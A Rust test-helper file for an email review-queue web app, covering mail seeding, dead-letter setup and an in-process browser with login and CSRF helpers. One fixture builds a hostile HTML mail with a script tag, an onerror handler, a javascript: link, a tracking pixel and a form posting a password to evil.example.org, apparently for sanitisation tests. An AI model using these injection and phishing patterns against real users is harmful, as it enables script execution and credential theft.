//! Helpers for the review-queue tests: items seeded straight into the store (so the tests
//! do not depend on what the rules decide), and an in-process browser for the HTTP layer.
#![allow(dead_code)]

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::Arc;

use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{header, Request, StatusCode};
use axum::Router;
use http_body_util::BodyExt;
use tokio::sync::Notify;
use tower::ServiceExt;
use trialdesk::store::{NewDecision, NewInbound, NewOutbox, NewReview, RecordOutcome};

use crate::common::{mail, TestEnv};

/// A mail to put in the queue.
pub struct Seed<'a> {
    pub from: &'a str,
    pub subject: &'a str,
    pub message_id: &'a str,
    pub body: &'a str,
    /// Raw bytes to store instead of a plain mail built from the fields above.
    pub raw: Option<Vec<u8>>,
    pub reason: &'a str,
    pub kind: &'a str,
    pub loans: &'a [&'a str],
    pub partner_id: Option<&'a str>,
    /// Also queue an automatic reply (as for a loan of another partner: answered and flagged).
    pub answered: bool,
    pub received_at: i64,
}

impl Default for Seed<'_> {
    fn default() -> Self {
        Seed {
            from: "王伟 <wangwei@huadong.example.cn>",
            subject: "试用终端追踪请求",
            message_id: "seed-1@huadong.example.cn",
            body: "请查询 D20261001",
            raw: None,
            reason: "other_subject",
            kind: "tracking_request",
            loans: &[],
            partner_id: Some("P01"),
            answered: false,
            received_at: 0,
        }
    }
}

/// Address part of `Name <addr>`.
fn address(from: &str) -> String {
    match (from.rfind('<'), from.rfind('>')) {
        (Some(a), Some(b)) if a < b => from[a + 1..b].to_lowercase(),
        _ => from.trim().to_lowercase(),
    }
}

fn display_name(from: &str) -> Option<String> {
    from.find('<')
        .map(|i| from[..i].trim().trim_matches('"').to_string())
        .filter(|n| !n.is_empty())
}

/// Records a mail with its decision and an open review item. Returns (review id, inbound id).
pub async fn seed(env: &TestEnv, s: Seed<'_>) -> (i64, i64) {
    let raw = s
        .raw
        .clone()
        .unwrap_or_else(|| mail(s.from, s.subject, s.message_id, "", s.body));
    let now = if s.received_at > 0 {
        s.received_at
    } else {
        jiff::Timestamp::now().as_millisecond()
    };
    let loans: Vec<String> = s.loans.iter().map(|l| l.to_string()).collect();
    let outbox = if s.answered {
        vec![NewOutbox {
            purpose: "reply".into(),
            message_id: format!("auto.{}", s.message_id),
            envelope_from: "helpdesk@example.test".into(),
            recipients: vec![address(s.from)],
            rate_key: address(s.from),
            subject: format!("Re: {}", s.subject),
            body: b"Subject: Re: x\r\n\r\nautomatic answer\r\n".to_vec(),
        }]
    } else {
        vec![]
    };
    let outcome = env
        .app
        .store
        .record_inbound(
            &NewInbound {
                message_key: format!("mid:{}", s.message_id),
                message_id: Some(s.message_id.to_string()),
                source: "test".into(),
                received_at: now,
                sender: Some(address(s.from)),
                sender_name: display_name(s.from),
                subject: s.subject.to_string(),
                size_bytes: raw.len() as i64,
                raw: Some(raw),
                body_text: s.body.to_string(),
            },
            &NewDecision {
                decided_by: "pipeline".into(),
                kind: s.kind.into(),
                action: if s.answered { "reply" } else { "review" }.into(),
                language: "zh".into(),
                partner_id: s.partner_id.map(str::to_string),
                loan_numbers: loans,
                reasons: vec![format!("review:{}", s.reason)],
                review: vec![s.reason.to_string()],
            },
            &outbox,
            Some(&NewReview {
                reason: s.reason.into(),
                reasons: vec![s.reason.into()],
                detail: "seeded for a test".into(),
            }),
            now,
        )
        .await
        .expect("seed recorded");
    let RecordOutcome::Recorded { inbound_id, .. } = outcome else {
        panic!("seed {} recorded twice", s.message_id);
    };
    let items = env
        .app
        .store
        .review_items_for_inbound(inbound_id)
        .await
        .unwrap();
    (items[0].id, inbound_id)
}

/// A reply that failed for good: returns (review id, outbox id).
pub async fn seed_dead_letter(env: &TestEnv, message_id: &str) -> (i64, i64) {
    let store = &env.app.store;
    let now = jiff::Timestamp::now().as_millisecond();
    let outcome = store
        .record_inbound(
            &NewInbound {
                message_key: format!("mid:{message_id}"),
                message_id: Some(message_id.into()),
                source: "test".into(),
                received_at: now,
                sender: Some("gone@huadong.example.cn".into()),
                sender_name: None,
                subject: "试用终端追踪请求".into(),
                size_bytes: 10,
                raw: None,
                body_text: "D20261001".into(),
            },
            &NewDecision {
                decided_by: "pipeline".into(),
                kind: "tracking_request".into(),
                action: "reply".into(),
                language: "zh".into(),
                partner_id: Some("P01".into()),
                loan_numbers: vec!["D20261001".into()],
                reasons: vec![],
                review: vec![],
            },
            &[NewOutbox {
                purpose: "reply".into(),
                message_id: format!("dead.{message_id}"),
                envelope_from: "helpdesk@example.test".into(),
                recipients: vec!["gone@huadong.example.cn".into()],
                rate_key: "gone@huadong.example.cn".into(),
                subject: "Re: 试用终端追踪请求".into(),
                body: b"From: helpdesk@example.test\r\nTo: gone@huadong.example.cn\r\nSubject: Re: x\r\n\r\nstatus of D20261001\r\n".to_vec(),
            }],
            None,
            now,
        )
        .await
        .unwrap();
    let RecordOutcome::Recorded { outbox_ids, .. } = outcome else {
        panic!("dead letter seeded twice");
    };
    let claimed = store
        .claim_outbox("test-worker", now, 60_000, 100)
        .await
        .unwrap();
    for row in claimed {
        if row.id == outbox_ids[0] {
            assert!(store
                .mark_dead(row.id, "test-worker", "550 5.1.1 mailbox unknown", now)
                .await
                .unwrap());
        } else {
            store
                .mark_retry(row.id, "test-worker", now, "not this one")
                .await
                .unwrap();
        }
    }
    let item = store
        .review_items(&Default::default())
        .await
        .unwrap()
        .into_iter()
        .find(|i| i.outbox_id == Some(outbox_ids[0]))
        .expect("dead letter item");
    (item.id, outbox_ids[0])
}

/// A multipart mail whose HTML tries to run script three ways.
pub fn hostile_html_mail(message_id: &str) -> Vec<u8> {
    format!(
        "From: Mallory <mallory@evil.example.org>\r\nTo: helpdesk@example.test\r\n\
         Subject: Invoice overdue\r\nMessage-ID: <{message_id}>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n\
         --outer\r\nContent-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n\
         --alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlease pay D20261001.\r\n\
         --alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
         <html><body><p id=\"hello\">Please <b>pay</b> D20261001.</p>\
         <script>window.__pwned = 1; document.title = 'pwned';</script>\
         <img src=\"x\" onerror=\"window.__pwned = 2; document.title = 'pwned'\">\
         <img src=\"https://tracker.example.org/open.gif\">\
         <a href=\"javascript:window.__pwned=3\">click</a>\
         <form action=\"https://evil.example.org/steal\"><input name=\"password\"></form>\
         </body></html>\r\n\
         --alt--\r\n\
         --outer\r\nContent-Type: text/html; name=\"invoice.html\"\r\n\
         Content-Disposition: attachment; filename=\"invoice.html\"\r\n\r\n\
         <script>window.__pwned = 4</script>\r\n\
         --outer--\r\n"
    )
    .into_bytes()
}

/// What a request returned.
pub struct Page {
    pub status: StatusCode,
    pub headers: axum::http::HeaderMap,
    pub body: String,
}

impl Page {
    pub fn location(&self) -> Option<&str> {
        self.headers
            .get(header::LOCATION)
            .and_then(|v| v.to_str().ok())
    }

    /// The CSRF token of the first form on the page.
    pub fn csrf(&self) -> String {
        let re = regex::Regex::new(r#"name="csrf" value="([0-9a-f]+)""#).unwrap();
        re.captures(&self.body)
            .unwrap_or_else(|| panic!("no csrf field in:\n{}", self.body))[1]
            .to_string()
    }

    /// The `href`s on the page, entities decoded (minijinja escapes `/` in attributes).
    pub fn links(&self) -> Vec<String> {
        let re = regex::Regex::new(r#"href="([^"]*)""#).unwrap();
        re.captures_iter(&self.body)
            .map(|c| {
                c[1].replace("&#x2f;", "/")
                    .replace("&amp;", "&")
                    .replace("&#x3d;", "=")
            })
            .collect()
    }

    pub fn set_cookies(&self) -> Vec<String> {
        self.headers
            .get_all(header::SET_COOKIE)
            .iter()
            .map(|v| v.to_str().unwrap().to_string())
            .collect()
    }
}

/// The app's router driven in-process, with a cookie jar: a browser without a network.
pub struct Browser {
    router: Router,
    pub cookies: BTreeMap<String, String>,
    pub remote: SocketAddr,
    /// Extra headers on every request.
    pub extra: Vec<(&'static str, String)>,
}

impl Browser {
    pub fn new(env: &TestEnv) -> Browser {
        Browser::with_router(env.app.web_router(Arc::new(Notify::new())).unwrap())
    }

    /// A browser that asks for English pages (the tests check English words; the pages
    /// default to Chinese — see `Browser::speaking`).
    pub fn with_router(router: Router) -> Browser {
        Browser {
            router,
            cookies: BTreeMap::new(),
            remote: "127.0.0.1:50000".parse().unwrap(),
            extra: vec![("accept-language", "en".to_string())],
        }
    }

    /// This browser with `Accept-Language: accept` (None: no header at all).
    pub fn speaking(mut self, accept: Option<&str>) -> Browser {
        self.extra.retain(|(k, _)| *k != "accept-language");
        if let Some(a) = accept {
            self.extra.push(("accept-language", a.to_string()));
        }
        self
    }

    pub async fn send(&mut self, mut req: Request<Body>) -> Page {
        if !self.cookies.is_empty() {
            let jar: Vec<String> = self
                .cookies
                .iter()
                .map(|(k, v)| format!("{k}={v}"))
                .collect();
            req.headers_mut()
                .insert(header::COOKIE, jar.join("; ").parse().unwrap());
        }
        for (k, v) in &self.extra {
            req.headers_mut().insert(*k, v.parse().unwrap());
        }
        req.extensions_mut().insert(ConnectInfo(self.remote));
        let res = self.router.clone().oneshot(req).await.unwrap();
        let status = res.status();
        let headers = res.headers().clone();
        let body = res.into_body().collect().await.unwrap().to_bytes();
        let page = Page {
            status,
            headers,
            body: String::from_utf8_lossy(&body).to_string(),
        };
        for c in page.set_cookies() {
            let first = c.split(';').next().unwrap();
            let (k, v) = first.split_once('=').unwrap();
            if v.is_empty() || c.contains("Max-Age=0") {
                self.cookies.remove(k);
            } else {
                self.cookies.insert(k.to_string(), v.to_string());
            }
        }
        page
    }

    pub async fn get(&mut self, path: &str) -> Page {
        self.send(Request::get(path).body(Body::empty()).unwrap())
            .await
    }

    pub async fn post(&mut self, path: &str, form: &[(&str, &str)]) -> Page {
        let body: String = form_urlencoded::Serializer::new(String::new())
            .extend_pairs(form)
            .finish();
        self.send(
            Request::post(path)
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .body(Body::from(body))
                .unwrap(),
        )
        .await
    }

    /// Signs in through the form; returns the answer to the POST.
    pub async fn login(&mut self, name: &str, password: &str) -> Page {
        let form = self.get("/login").await;
        assert_eq!(form.status, StatusCode::OK);
        let csrf = form.csrf();
        self.post(
            "/login",
            &[
                ("csrf", &csrf),
                ("name", name),
                ("password", password),
                ("next", "/queue"),
            ],
        )
        .await
    }

    /// The CSRF token of the signed-in session (from any page's sign-out form).
    pub async fn session_csrf(&mut self) -> String {
        self.get("/queue").await.csrf()
    }
}

pub const PASSWORD: &str = "correct horse battery staple";

/// Adds a staff account.
pub async fn add_user(env: &TestEnv, name: &str) {
    trialdesk::review::users::add_user(&env.app.store, name, PASSWORD, "test", 0)
        .await
        .unwrap();
}
